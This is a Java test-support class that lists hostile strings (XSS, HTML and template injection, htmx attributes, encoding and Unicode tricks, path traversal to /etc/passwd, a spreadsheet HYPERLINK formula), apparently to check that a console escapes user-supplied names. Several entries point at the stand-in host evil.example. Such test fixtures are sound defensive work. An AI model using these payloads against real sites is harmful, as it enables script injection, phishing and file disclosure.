package dev.tallygate.console;

import java.util.List;
import tools.jackson.databind.json.JsonMapper;

/**
 * Names as an attacker would choose them: one per way of breaking out of text, of an
 * attribute, of a URL, of a script, of the template language, of the page's own markup.
 */
final class HostileTexts {

	private HostileTexts() {
	}

	static List<String> all() {
		return List.of("<script>alert(1)</script>", "</script><script>alert(1)</script>",
				"\"><script>alert(1)</script>", "'><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
				"\"><img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
				"<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
				"<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
				"<embed src=javascript:alert(1)>", "<base href=//evil.example/>",
				"<meta http-equiv=refresh content='0;url=//evil.example'>",
				"<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example'</style>",
				"<form action=//evil.example><button>Sign in</button></form>", "<input autofocus onfocus=alert(1)>",
				"<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>",
				"<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>",
				"<math><mtext></mtext></math>", "<a href=javascript:alert(1)>x</a>", "<a href=data:text/html,x>x</a>",
				"javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "\" onmouseover=\"alert(1)",
				"' onmouseover='alert(1)", "` onmouseover=`alert(1)", "x onmouseover=alert(1)",
				"\" autofocus onfocus=\"alert(1)", "\" style=\"x:y", "</th><td>more</td>", "</table><h1>Pay here</h1>",
				"</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
				"</svg><script>alert(1)</script>", "<!--", "-->", "<![CDATA[x]]>", "<?xml version=\"1.0\"?>", "${7*7}",
				"*{7*7}", "#{7*7}", "@{/x}", "~{layout}", "__${7*7}__::.x", "[[${7*7}]]", "[(${7*7})]",
				"${T(java.lang.Runtime).getRuntime()}", "{{7*7}}", "<th:block th:text=\"${7*7}\"/>",
				"\" hx-get=\"//evil.example", "<div hx-get=/sign-out hx-trigger=load></div>",
				"&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "\\u003cscript\\u003e", "%3Cscript%3E",
				"\u202Eevil", "\uFEFFx", "x\u2028y", "<\u0000script>", "＜script＞alert(1)＜/script＞",
				"<scr<script>ipt>alert(1)</scr</script>ipt>", "../../etc/passwd", "=HYPERLINK(\"//evil.example\")",
				"a".repeat(2000));
	}

	static String json(String text) {
		return JsonMapper.shared().writeValueAsString(text);
	}

}
